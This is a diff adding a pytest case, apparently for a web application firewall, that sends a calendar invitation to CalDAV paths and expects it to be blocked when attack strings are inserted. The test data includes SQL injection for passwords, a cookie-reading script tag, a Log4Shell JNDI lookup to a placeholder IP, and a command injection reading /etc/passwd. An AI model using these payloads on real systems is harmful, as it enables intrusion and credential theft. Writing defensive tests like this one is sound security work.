@@ -91,6 +91,36 @@ def test_a_declared_body_type_is_read_field_by_field(tier: Tier, profile: str) -
     assert _post(tier.port, profile_host(profile), "/api/site/letters", LETTER) == 403
 
 
+INVITE = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//ZJ Zhengding//Calendar 3.2//CN\r\nMETHOD:REQUEST\r\n"
+          "BEGIN:VEVENT\r\nUID:5573296d-6994-44a5-b62f-92abcfb02b18@zzd.zj.gov.cn\r\nDTSTAMP:20270216T023500Z\r\n"
+          "DTSTART;TZID=Asia/Shanghai:20270310T093000\r\nDTEND;TZID=Asia/Shanghai:20270310T103000\r\n"
+          "SUMMARY:数字政府建设推进例会\r\nDESCRIPTION:视频会议号：8823 4410\\, 分会场请提前调试设备\r\n"
+          "ORGANIZER;CN=\"陈思远\":mailto:chensy@zj.gov.cn\r\n"
+          "ATTENDEE;CN=\"刘明\";ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:liuming@zj.gov.cn\r\n"
+          "END:VEVENT\r\nEND:VCALENDAR\r\n")
+CALENDAR_TYPE = "text/calendar; charset=utf-8; method=REQUEST"
+
+
+def _raw(port: int, host: str, path: str, body: str, ctype: str) -> int:
+    req = Req("POST", path, {**attacks.BASE, "Content-Type": ctype}, body)
+    return send(port, host, as_citizens([req])[0], source=GATEWAY).status
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("profile", BLOCKING)
+def test_a_declared_text_body_type_is_read_whole(tier: Tier, profile: str) -> None:
+    """A calendar invitation (text/calendar, iMIP) on the site's own CalDAV paths: passed, and read whole by the
+    paranoia-1 attack rules (ADR 0019), so an attack anywhere in it is refused; the type elsewhere is refused."""
+    host = declared_host(profile)
+    assert _raw(tier.port, host, "/caldav/zhangwei/inbox/", INVITE, CALENDAR_TYPE) == 200
+    for attack in ("' union select password from sys_user--", "<script>alert(document.cookie)</script>",
+                   "${jndi:ldap://203.0.113.5:1389/a}", "; cat /etc/passwd"):
+        body = INVITE.replace("分会场请提前调试设备", attack)
+        assert _raw(tier.port, host, "/caldav/zhangwei/inbox/", body, CALENDAR_TYPE) == 403, attack
+    assert _raw(tier.port, host, "/api/other/inbox/", INVITE, CALENDAR_TYPE) == 403
+    assert _raw(tier.port, profile_host(profile), "/caldav/zhangwei/inbox/", INVITE, CALENDAR_TYPE) == 403
+    assert _raw(tier.port, host, "/caldav/zhangwei/inbox/", INVITE, CALENDAR_TYPE + "; x=1") == 403
+
 # Declared on the d-<profile> sites (factory.SITE_RULES, SITE_FORMULA): (path, JSON key, values, injections).
 JSON_FIELDS = {"boolean-expression": ("/rules/save", "expr", BOOLEAN, BOOLEAN_INJECTIONS),
                "formula": ("/calc/evaluate", "formula", FORMULAS, FORMULA_INJECTIONS),
